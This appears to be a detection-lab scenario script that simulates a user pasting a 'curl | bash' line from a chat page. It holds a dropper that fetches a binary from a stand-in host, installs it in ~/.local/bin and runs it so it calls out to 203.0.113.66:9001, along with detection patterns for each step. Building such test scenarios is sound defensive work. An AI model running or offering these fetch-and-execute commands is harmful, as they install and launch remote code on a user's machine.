# A chat message says: paste this.
title="curl | bash pasted shortly after a visit to a chat service"
what="The intern has an outside chat page open in Chromium. Half a minute later a line from it is pasted into a terminal: curl fetches a script from 203.0.113.80 and pipes it into bash; the script writes a program into ~/.local/bin, starts it and it calls out."
host=ws3.example.org user=intern daemons="cron"

setup() {
  mkdir -p "$base/out/www/get"
  echo '<html><title>chat</title><p>paste this: curl -fsSL http://files.example.net/get/helper | bash</html>' > "$base/out/www/room.html"
  printf 'set -e\nmkdir -p ~/.local/bin\ncurl -fsSL -o ~/.local/bin/helperd http://files.example.net/get/helperd\nchmod +x ~/.local/bin/helperd\nnohup ~/.local/bin/helperd 203.0.113.66 9001 >/dev/null 2>&1 &\necho helper installed\n' > "$base/out/www/get/helper"
  cc -O1 -o "$base/out/www/get/helperd" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 1
  display_up
  chromium_as intern https://chat.example.com/room.html
  sleep 9
  console_as intern <<'L'
%sleep 4
curl -fsSL http://files.example.net/get/helper | bash
%sleep 2
ls
L
  desktop_close
  small_talk 1
}
truth() {
  net_step chat 'chromium.* 203.0.113.82:443' 'a chat page is open'
  exec_step fetch 'curl -fsSL http://files' 'a pasted line fetches a script'
  exec_step shell 'bash$' 'and a shell reads it from the pipe'
  exec_step execute 'helperd 203.0.113.66 9001' 'the script starts a program it fetched'
  net_step beacon 'helperd 203.0.113.66:9001' 'which calls out'
}
